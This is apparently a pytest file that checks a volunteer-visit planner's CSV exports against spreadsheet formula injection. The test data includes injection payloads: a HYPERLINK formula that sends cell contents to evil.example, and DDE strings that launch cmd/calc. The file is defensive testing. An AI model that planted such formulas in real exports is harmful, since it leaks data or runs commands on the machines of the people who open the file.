"""CSV injection: cells that start like a formula are shown as text, in downloads and CLI files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from pathlib import Path
from typing import Any

import pandas as pd
from flask.testing import FlaskClient
from sqlalchemy import select, update

from routing.patrols.options import RotaOptions
from routing.patrols.rota import ROTA_COLUMNS, solve_rota
from routing.spreadsheet import FORMULA_START, formula_safe
from tests.web.conftest import login, make_app
from web.cli import main
from web.demo import DEMO_PASSWORD, DEMO_USER
from web.storage.engine import open_engine, session_factory
from web.storage.models import Household, Volunteer

# What a hostile roster or register could carry (each starts with one of = + - @ TAB CR).
TEAMS = {
    "T001": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "T002": "+cmd|' /C calc'!A0",
    "T003": "-2+3",
    "T004": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HOUSEHOLD = "\t=1+1"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _hostile(db: Path) -> str:
    """Give four teams and a household hostile ids; returns that household's new id."""
    engine = open_engine(db)
    with session_factory(engine)() as session:
        for old, new in TEAMS.items():
            session.execute(update(Volunteer).where(Volunteer.team_id == old).values(team_id=new))
        first = session.scalar(select(Household.id).order_by(Household.id).limit(1))
        session.execute(
            update(Household).where(Household.id == first).values(household_id=HOUSEHOLD)
        )
        session.commit()
    engine.dispose()
    return HOUSEHOLD


def _no_formula(rows: list[dict[str, str]], columns: tuple[str, ...]) -> None:
    for row in rows:
        for column in columns:
            assert not row[column].startswith(FORMULA_START), (column, row[column])


def test_formula_safe_prefixes_text_cells_only() -> None:
    frame = pd.DataFrame(
        {
            "team_id": ["=1+1", "+1", "-x", "@a", "\tb", "\rc", "T9", "'=kept"],
            "floor": [-1, 2, 3, 4, 5, 6, 7, 8],
            "workload": [-1.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0],
        }
    )
    safe = formula_safe(frame)
    assert list(safe["team_id"]) == [
        "'=1+1", "'+1", "'-x", "'@a", "'\tb", "'\rc", "T9", "'=kept",
    ]  # fmt: skip
    assert list(safe.columns) == list(frame.columns)
    assert safe["floor"].tolist() == frame["floor"].tolist()  # numbers stay numbers
    assert safe["workload"].dtype == frame["workload"].dtype
    assert frame["team_id"][0] == "=1+1"  # the caller's frame is not changed
    untouched = frame[["floor"]]
    assert formula_safe(untouched) is untouched


def test_cli_territories_and_visits_files_are_formula_safe(demo_copy: Path, tmp_path: Path) -> None:
    household = _hostile(demo_copy)
    out = tmp_path / "plan"
    assert main(["plan-territories", "--db", str(demo_copy), "--out", str(out),
                 "--time-limit", "1", "--fresh", "--publish", "--routes", "none"]) == 0  # fmt: skip
    text = (out / "territories.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == "household_id,team_id,building_id,floor,workload"
    rows = _rows(text)
    teams = {r["team_id"] for r in rows}
    assert {"'" + t for t in TEAMS.values()} <= teams
    assert not set(TEAMS.values()) & teams
    assert any(r["household_id"] == "'" + household for r in rows)
    _no_formula(rows, ("household_id", "team_id", "building_id"))
    assert all(float(r["workload"]) >= 0 and r["floor"].lstrip("-").isdigit() for r in rows)

    visits = tmp_path / "visits"
    team = TEAMS["T002"]
    assert main(["plan-visits", "--db", str(demo_copy), "--out", str(visits), "--team", team,
                 "--time-limit", "1", "--max-solutions", "200"]) == 0  # fmt: skip
    stops = _rows((visits / "visits.csv").read_text(encoding="utf-8"))
    assert stops and {r["team_id"] for r in stops} == {"'" + team}
    _no_formula(stops, ("team_id", "household_id", "building_id", "unit"))
    dropped = (visits / "dropped.csv").read_text(encoding="utf-8")
    assert dropped.splitlines()[0] == "team_id,household_id,reason,priority"
    _no_formula(_rows(dropped), ("team_id", "household_id", "reason"))


def test_rota_csv_is_formula_safe(tmp_path: Path) -> None:
    teams = list(TEAMS.values())
    rota = solve_rota(
        ["R01", "-R02"],
        teams,
        dt.date(2026, 3, 2),
        RotaOptions(weeks=1, slots_per_day=1, time_limit_s=5.0, seed=0),
    )
    assert rota.feasible
    path = rota.to_csv(tmp_path / "rota.csv")
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(ROTA_COLUMNS)
    rows = _rows(text)
    assert {r["team_id"] for r in rows} <= {"'" + t for t in teams}
    assert "'-R02" in {r["route_id"] for r in rows}
    _no_formula(rows, ROTA_COLUMNS)


def test_web_downloads_are_formula_safe(demo_copy: Path, tmp_path: Path) -> None:
    _hostile(demo_copy)
    assert main(["plan-territories", "--db", str(demo_copy), "--out", str(tmp_path),
                 "--time-limit", "1", "--fresh", "--publish", "--routes", "none"]) == 0  # fmt: skip
    client = make_app(demo_copy).test_client()
    token = login(client, DEMO_USER, DEMO_PASSWORD)
    download = client.get("/communities/1/plans/2/territories.csv")
    assert download.status_code == 200
    body = download.get_data().decode("utf-8")
    assert body.startswith("\ufeffhousehold_id,team_id,building_id,floor,workload")
    rows = _rows(body.removeprefix("\ufeff"))
    assert {"'" + t for t in TEAMS.values()} <= {r["team_id"] for r in rows}
    _no_formula(rows, ("household_id", "team_id", "building_id"))

    team = TEAMS["T001"]
    form = {"team": team, "start": "09:00", "end": "12:00", "time_limit_s": "1"}
    posted = client.post("/communities/1/visits", data={**form, "csrf_token": token})
    assert posted.status_code == 302
    state = _wait(client)
    assert state["status"] == "done", state
    visits = client.get(f"/communities/1/visits/{state['id']}/visits.csv")
    rows = _rows(visits.get_data().decode("utf-8-sig"))
    assert rows and {r["team_id"] for r in rows} == {"'" + team}


def _wait(client: FlaskClient) -> dict[str, Any]:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        page = client.get("/communities/1/visits").get_data(as_text=True)
        start = page.find('data-job-id="')
        if start >= 0:
            job_id = int(page[start + 13 : page.index('"', start + 13)])
            state: dict[str, Any] = client.get(f"/api/v1/jobs/{job_id}").get_json()
            if state["finished"]:
                return state
        time.sleep(0.2)
    raise AssertionError("the visit job did not finish")
